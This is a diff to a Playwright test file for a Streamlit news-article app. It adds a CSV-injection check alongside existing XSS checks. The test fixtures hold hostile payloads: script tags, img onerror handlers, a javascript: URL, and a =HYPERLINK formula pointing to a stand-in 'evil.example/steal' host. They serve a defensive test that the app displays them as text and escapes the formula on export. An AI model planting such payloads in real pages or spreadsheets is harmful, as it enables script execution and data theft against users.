@@ -6,6 +6,8 @@ throw-away corpus holding one article whose text and title carry a
 """
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import shutil
@@ -30,6 +32,8 @@ STARTUP_TIMEOUT_S = 120
 LOAD_TIMEOUT_MS = 120_000
 SCRIPT = "<script>window.__pwned=1</script>"
 IMG = '<img src=x onerror="window.__pwned=2">'
+FORMULA = '=HYPERLINK("http://evil.example/steal","Comments")'
+SOURCE = f"{FORMULA} <img src=x onerror=alert(1)>"
 TITLE = "Talks <script>window.__pwned=3</script> & \"quotes\""
 TEXT = (
     "LONDON, 13 February 2022. Ben Wallace said on 13 February 2022 that 130,000 Russian troops "
@@ -66,7 +70,7 @@ def hostile_app(tmp_path_factory) -> str:
     corpus = tmp_path_factory.mktemp("hostile-corpus")
     (corpus / "2022-02-13_hostile.txt").write_text(TEXT, encoding="utf-8")
     (corpus / "2022-02-13_hostile.meta.json").write_text(
-        json.dumps({"title": TITLE, "source": "Comments <img src=x onerror=alert(1)>",
+        json.dumps({"title": TITLE, "source": SOURCE,
                     "url": "javascript:alert(1)"}), encoding="utf-8")
     port = _free_port()
     command = [sys.executable, "-m", "streamlit", "run", "app.py", "--server.port", str(port),
@@ -117,7 +121,7 @@ def test_hostile_article_is_shown_as_text_and_never_runs(page: Page, hostile_app
 
     # The title and source from the sidecar are shown literally too, and the javascript: URL is no link.
     expect(page.get_by_role("heading", name=TITLE)).to_be_visible()
-    expect(page.get_by_text("Comments <img src=x onerror=alert(1)>")).to_be_visible()
+    expect(page.get_by_text(SOURCE)).to_be_visible()
     assert page.locator("a[href^='javascript']").count() == 0
 
     # Real extraction found the date, and it is marked with its TimeML value.
@@ -146,3 +150,19 @@ def _save_screenshot(page: Page, path: Path) -> None:
     if os.environ.get("UPDATE_SCREENSHOTS") == "1":
         (REPO / "docs").mkdir(exist_ok=True)
         shutil.copyfile(path, REPO / "docs" / path.name)
+
+
+def test_hostile_article_exports_no_formula(page: Page, hostile_app: str):
+    """The source that starts with =HYPERLINK(...) downloads as text (a leading
+    apostrophe) in the articles CSV, never as a formula a spreadsheet would run."""
+    page.goto(hostile_app)
+    button = page.locator(".st-key-home_download button")
+    button.wait_for(timeout=LOAD_TIMEOUT_MS)
+    page.wait_for_selector("[data-testid='stApp'][data-test-script-state='notRunning']", timeout=LOAD_TIMEOUT_MS)
+    with page.expect_download() as download_info:
+        button.click()
+    rows = list(csv.DictReader(io.StringIO(download_info.value.path().read_text(encoding="utf-8"))))
+    assert [row["source"] for row in rows] == ["'" + SOURCE]
+    cells = [cell for row in rows for cell in row.values()]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")], "a cell would run as a formula"
+    assert page.evaluate("typeof window.__pwned") == "undefined"
